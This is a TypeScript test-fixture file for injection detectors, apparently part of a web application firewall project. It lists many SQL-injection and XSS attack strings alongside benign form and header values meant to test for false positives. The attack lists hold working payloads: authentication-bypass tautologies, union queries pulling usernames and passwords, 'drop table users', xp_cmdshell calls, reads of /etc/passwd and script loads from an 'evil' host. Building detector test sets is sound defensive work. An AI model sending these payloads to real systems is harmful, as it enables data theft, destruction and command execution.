// Our own sample sets for the detectors: attacks written from the usual injection families, and
// benign values of the kinds real forms, query strings, headers and JSON carry.

/** SQL injections, each as the raw value an attacker would send (after URL decoding). */
export const SQLI_ATTACKS: readonly string[] = [
  // tautologies
  "' or 1=1--", "' or '1'='1", '" or "1"="1', "1 or 1=1", "1' or '1'='1' -- ", "admin' or 1=1#",
  "x' OR 'x'='x", "' OR 'a'='a' /*", "1) or (1=1", "1') or ('1'='1", "')) or (('a'='a",
  "-1 or 2>1", "1 and 1=1", "1 AND 2=2", "' and 1=0 --", "abc' and 'x'='y", "10 || 1=1",
  "' || 'a'='a", "1' && '1'='1", "' or not 1=2 --", "' or true--", "1 or true", "' or 2 between 1 and 3--",
  "' or 'x' like 'x", "1 xor 1", "' or 0x41=0x41 --", "' or @@version--", "\" or 1 --",
  // comments closing the statement
  "admin'--", "admin' #", "admin')--", "admin'))--", "x';--", "'/*", "admin'/*",
  // union based
  "1 union select 1,2,3", "' union select null,null--", "1' UNION ALL SELECT username,password FROM users--",
  "-1 union all select @@version", "' union (select 1)--", "foo') union select 1,2--", "0 union distinct select 1",
  "x' union select load_file('/etc/passwd')#", "1/**/union/**/select/**/1", "'/**/union/**/select/**/1--",
  "') union select 1,2 from dual--", "1 UNION SELECT table_name FROM information_schema.tables",
  // stacked queries
  "1; drop table users", "'; drop table users--", "1; exec xp_cmdshell 'dir'", "'; exec master..xp_cmdshell 'ping x'--",
  "'; insert into users values('a','b')--", "1); delete from users--", "'; update users set admin=1--",
  "x'; select pg_sleep(5)--", "1;select 1", "'; shutdown--", "1; waitfor delay '0:0:5'--",
  "'; declare @x varchar(99); set @x='a'--", "1); select * from users--",
  // time and error based, function calls
  "sleep(5)", "benchmark(1000000,md5(1))", "pg_sleep(10)", "' and sleep(5)--", "1 and sleep(5)",
  "' or sleep(5)='", "1' and benchmark(5000000,sha1(1))#", "' waitfor delay '0:0:10'--",
  "') waitfor delay '0:0:5'--", "1 waitfor delay '0:0:5'", "' and extractvalue(1,concat(0x7e,version()))--",
  "' and updatexml(1,concat(0x7e,user()),1)--", "1 and (select 1 from (select count(*),concat(version(),floor(rand(0)*2))x from information_schema.tables group by x)a)",
  "' and 1=(select count(*) from users)--", "1 and ascii(substring(user(),1,1))>64", "' and substr(version(),1,1)='5",
  "' || pg_sleep(5) || '", "'||(select 1)||'", "'+(select 1)+'", "' + sleep(5) + '", "'^sleep(5)^'",
  "\" | sleep(5) | \"", "1 and if(1=1,sleep(5),0)", "' and if(ascii(mid(user(),1,1))>1,sleep(1),0)#",
  "char(65)", "concat(0x41,0x42)", "extractvalue(1,0x7e)", "load_file('/etc/passwd')",
  "(select 1)", "(select * from users)", "select * from users", "select @@version", "select user()",
  "1' and (select 1)=1--", "' and exists(select * from users)--", "1 and exists(select 1)",
  // order by / group by probing
  "1 order by 1--", "' order by 3--", "1' group by 2#", "1) order by 1", "' having 1=1--",
  // misc syntax tricks
  "1/*!50000union*/ select 1", "'/*!or*/1=1--", "/*/*/ union select 1", "1 collate utf8_bin",
  "' collate latin1_general_ci--", "1 and 1=1 -- -", "' and 'a'='a' -- -", "1' and 1 like 1--",
  "'-sleep(5)-'", "'*sleep(5)*'", "1 or 1 in (1)", "1' or 1 in (select 1)--", "' or 1 rlike 1--",
  // continuing the application's condition
  'or 1=1', 'and 1=1--', 'or 4975==4975', 'and sleep(5)', 'and (select 1)', "or 'a'='a", 'order by if(1=1,1,sleep(1))',
  '1 rlike (select 1)', "' and 'x' in ('x')", 'admin or 1=1', '1 or x=x',
  // automated-tool style (boolean, time, error, union, stacked; several dialects)
  "1 AND 1234=1234", "1 AND 1234=5678-- abcd", "' AND 1234=1234 AND 'abcd'='abcd", ") AND 1234=1234 AND (5678=5678",
"' AND SLEEP(5) AND 'abcd'='abcd", ";SELECT SLEEP(5)#", "' AND (SELECT 1234 FROM (SELECT(SLEEP(5)))abcd)-- xyz",
"' AND EXTRACTVALUE(1234,CONCAT(0x5c,0x71,(SELECT 1)))-- x", "' UNION ALL SELECT NULL,NULL,NULL-- -", "1 ORDER BY 1-- x",
"';WAITFOR DELAY '0:0:5'--", "';SELECT PG_SLEEP(5)--", "' AND 1234=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5) AND 'a'='a",
"' AND 1234=CONVERT(INT,(SELECT 1))", "1 AND 1234=(SELECT 1234 FROM PG_SLEEP(5))",
"(SELECT (CASE WHEN (1234=1234) THEN 1234 ELSE 1234*(SELECT 1234 FROM INFORMATION_SCHEMA.PLUGINS) END))",
"%' AND 1234=1234 AND '%'='", "\") AND 1234=1234 AND (\"abcd\"=\"abcd", "1) AND 1234=1234 AND (1234=1234",
"' RLIKE (SELECT 1) AND 'a'='a", "1 RLIKE SLEEP(5)", "' OR NOT 1234=1234#", "1 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x5c,1)),1)",
"' AND GTID_SUBSET(CONCAT(0x71,1),1234)-- x", "1 AND 1234=LIKE(CHAR(65),UPPER(HEX(RANDOMBLOB(500000000/2))))",
"';DECLARE @x CHAR(9);SET @x=0x303a303a35;WAITFOR DELAY @x--", "1;DECLARE @x CHAR(9)", "1' AND 1=1 UNION SELECT 1,2#",
"1 AND ELT(1234=1234,SLEEP(5))", "' OR ELT(1=1,1)#", "1' OR '1'='1'#", "1' OR 1 -- -", "' OR ''='", "1 OR 1#", "\" OR \"\"=\"",
"' OR 1=1 LIMIT 1 --", "admin\" --", "admin\" #", "admin\")--", "') OR ('a'='a", "1)) OR ((1=1", "-1' UNION SELECT 1,2,3--+",
"1 AND (SELECT SUBSTRING(@@version,1,1))='5'", "1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--",
"' + (SELECT TOP 1 name FROM sysobjects) + '", "'; EXEC xp_cmdshell('whoami')--", "1; EXEC sp_configure 'show advanced options',1",
"x' AND 1=(SELECT COUNT(*) FROM tabname); --", "1 UNION SELECT @@version", "' UNION SELECT username, password FROM users--",
"1' ORDER BY 10--+", "1' GROUP BY 1,2,3--+", "' HAVING 1=1 --", "1 OR SLEEP(5)", "' OR SLEEP(5) OR '", "1' AND SLEEP(5)#",
"IF(1=1,SLEEP(5),0)", "1 AND 1=1 AND 'a'='a'", "SELECT * FROM users WHERE 1=1", "' or 1 like 1", "1' and '1' like '1",
"')) UNION SELECT 1--", "' || 1=1 --", "1 || 1=1", "' && 1=1 --", "1%' or '1%'='1", "x' or x.y like '%",
"' or 1=1/*", "' or 1=1;%00", "'or''='", "'or 1#", "' oR '1'='1", "' OR 'x'='x'#",
];

/** XSS payloads, as the raw value sent (after URL and entity decoding). */
export const XSS_ATTACKS: readonly string[] = [
  '<script>alert(1)</script>', '<SCRIPT SRC=//evil/x.js></SCRIPT>', '<script\n>alert(1)</script>',
  '<img src=x onerror=alert(1)>', '<img/src="x"/onerror=alert(1)>', '<IMG SRC="javascript:alert(1)">',
  '<svg onload=alert(1)>', '<svg/onload=alert(1)>', '<body onload=alert(1)>', '<iframe src="javascript:alert(1)">',
  '<iframe srcdoc="<script>alert(1)</script>">', '<a href="javascript:alert(1)">x</a>', '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>', '<a href="vbscript:msgbox(1)">x</a>', '<object data="data:text/html,<script>alert(1)</script>">',
  '<embed src="data:image/svg+xml;base64,PHN2Zz4=">', '<div style="background:url(javascript:alert(1))">', '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>', '<marquee onstart=alert(1)>', '<video><source onerror=alert(1)>', '<math><mtext></mtext></math>',
  '<base href="javascript:alert(1)//">', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', '<link rel=import href=//evil>',
  '<form><button formaction=javascript:alert(1)>x</button></form>', '<style>@import "//evil"</style>', '<x onclick=alert(1)>click',
  '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>", '" onmouseover="alert(1)', "' onfocus='alert(1)' autofocus='",
  'x" autofocus onfocus="alert(1)', 'x onmouseover=alert(1)', '` onmouseover=alert(1)', '"><svg onload=alert(1)>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->', '<!DOCTYPE x [<!ENTITY a "b">]>', '<applet code="x">',
  '<frameset onload=alert(1)>', '<xsl:value-of select="1"/>', '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>', '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<p style="x:expression(alert(1))">', '<isindex action=javascript:alert(1) type=image>', '<td background="javascript:alert(1)">',
];

/** Values that must not be flagged by either detector. */
export const BENIGN: readonly string[] = [
  // English text and names
  'hello world', 'The quick brown fox jumps over the lazy dog.', "O'Brien", "O'Neil", "D'Angelo", "Mary-Jane O'Connor",
  "It's a beautiful day", "I can't believe it's not butter", "Don't stop me now", "Rock 'n' roll", "the students' books",
  "the students' and teachers' books", "John's and Mary's house", "We're open 9 to 5", "You'll never walk alone",
  'Please select an option from the list', 'Select all that apply', 'Delete this item?', 'Update your profile',
  'Union Station, Chicago', 'European Union', 'order by phone', 'Group by color', 'Insert coin to continue',
  'Drop me a line', 'Create account', 'Execute order 66', 'waiting for delay news', 'Shutdown policy FAQ',
  'I like cats and dogs', 'this or that', 'yes or no', 'black and white', 'salt and pepper', 'rock and roll',
  '1 or 2 rooms', 'between 5 and 10', 'Terms and Conditions', 'cats & dogs', 'A & B Plumbing', 'Q&A',
  'Sleep well tonight', 'sleep', 'Count me in', 'max speed', 'left or right', 'user name', 'version 2',
  'Go online now', 'only once', 'onion rings', 'one on one', 'Turn on the lights', 'Script writing class',
  'Frame rate', 'Embed this video', 'Object oriented programming', 'Iframe tutorial', 'Meta tags explained',
  "We'll select the best -- promise", "Choose 'yes' or 'no'", 'He said "hi" and left', '"Quoted" text',
  '5\' 11"', "6' tall", 'A 12" pizza', "90's music", "rock'n'roll", "it's 5 o'clock", "L'Oréal",
  "Ça va? Très bien", 'Grüße aus München', '日本語のテキスト', 'Привет мир', 'مرحبا',
  // numbers, dates, ids
  '0', '42', '-1', '3.14159', '1e10', '0x1F', '2024-01-15', '2024-01-15T10:30:00Z', '15/01/2024', '10:30',
  '+1 (555) 123-4567', '555-1234', '4111 1111 1111 1111', '1,234,567.89', '$19.99', '50%', '100-200',
  '550e8400-e29b-41d4-a716-446655440000', 'a1b2c3d4', 'ABC-123', 'SKU#12345', 'order #42', 'v1.2.3',
  // emails, urls, paths
  'john.doe@example.com', 'o.brien+tag@example.co.uk', 'https://example.com/path?q=1&r=2', 'http://localhost:8080/',
  '/api/v1/users/42', '/var/log/app.log', 'C:\\Program Files\\App', '../images/logo.png', 'file.tar.gz',
  'https://www.google.com/search?q=sql+injection', 'mailto:someone@example.com', 'ftp://files.example.com/pub',
  '/post/foo/bar', '/index.php', '/shop/cart', 'data:image/png;base64,iVBORw0KGgo=',
  // JSON, query values, headers
  '{"name":"Alice","age":30}', '{"items":[1,2,3],"total":6}', '[{"id":1},{"id":2}]', '{"q":"a or b"}',
  '{"text":"it\'s fine"}', 'true', 'false', 'null', 'name=alice&age=30', 'a=1;b=2',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15',
  'curl/8.4.0', 'OWASP CRS test agent', 'text/html,application/xhtml+xml;q=0.9,*/*;q=0.8', 'gzip, deflate, br',
  'en-US,en;q=0.9', 'no-cache', 'session=abc123; theme=dark', 'Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.sig',
  // markup that is harmless, math, code-ish prose
  '<b>bold</b>', '<i>italic</i> and <u>underline</u>', '<p>Hello</p>', '<a href="https://example.com">link</a>',
  '<img src="cat.png" alt="cat">', 'a < b and c > d', '1 < 2', 'x<y', '<3', '5 > 3', 'if (a < b) return',
  'x = y + z', '2 + 2 = 4', '(1 + 2) * 3', 'f(x) = x^2', 'E = mc^2', 'a == b', 'C++ and C#', 'Q: why? A: because',
  'SELECT your plan', 'count(*) is a SQL idiom', "Sam's #1 fan", "It's #1 -- really", "I'm done; thanks",
  'Note: select the file; then upload', 'Hello; world', 'Meeting at 10; lunch at 12', 'a/b/c', 'a - b - c',
  '---', '***', '###', '/* just a note */', '-- signature', 'Re: [list] topic', '{braces}', '(parenthetical)',
  '"', "'", '\'"', "''", '""', '`', '@', '@home', '#hashtag', '!important', '~user', '^_^', ':)', ';)',
  'and 2 more', 'or best offer', 'and more', 'or nearest offer (ONO)', 'order by date', 'or so',
  // adversarial: apostrophes and quotes next to and/or, SQL words in prose, operators in text
  "Tom's and Jerry's", "the dogs' and cats' food", "Guns N' Roses and more", "O'Reilly or Wiley", "'Hamlet' and 'Macbeth'",
'"Hamlet" and "Macbeth"', "'cats' or 'dogs'", "James' 2 cars", "the Jones' or the Smiths'", "students' 1st day", 
"it's 1 or 2", "can't or won't", "rock 'n' roll or jazz", "'yes' or 'no'", "\"yes\" or \"no\"", "The 'best' and 2nd best",
"user's guide (2nd edition)", "the user's select box", "McDonald's; Burger King", "Macy's; select items", "Dave's -- best", "Al's #1 diner",
"Let's go!", "Ma'am, yes ma'am", "y'all", "'Tis the season", "'90s and '80s hits", "the '80s", "rock'n'roll; jazz", "it's (not) fine",
"O'Brien (née Smith)", "price: 5' x 10'", "5'x10' rug", "2' 6\" wide", "12\" or 14\"", "5\" and 6\"", "it's 50% off", "it's 3-4 days",
"Sign up -- it's free", "Hello -- world", "a -- b", "-- end --", "#1 best seller", "C# and F#", "what's #1?", "I'm 5'10\"",
"Union Square; New York", "Order by phone: 555-1234", "select committee", "drop-down menu", "Insert into the slot", "Update: new version 2",
"1 in 3 people", "5 and up", "ages 3 and up", "between 3 and 5", "size 10 or 12", "sleep study", "sleep (8 hours)", "count (5)", "char 5",
"user (admin)", "version (2.0)", "benchmark results", "Version 1.0 and 2.0", "true or false",
"null and void", "not 1 but 2", "is 1 = 1?", "1=1", "a=b", "x = 'y'", "name='bob'", "where's waldo", "when's lunch", "it's 'quoted'",
"{\"a\":\"b's\"}", "['a', 'b']", "('a', 'b')", "f('x')", "a||b", "a && b", "x != y", "'a'", "\"a\"", "''", "'''", "\"'\"", "'\"'",
"sort=name&order=asc", "filter=status:active", "q=what's new", "search=O'Neil AND Smith", "O'Neil AND Smith", "Smith's or Jones'",
];
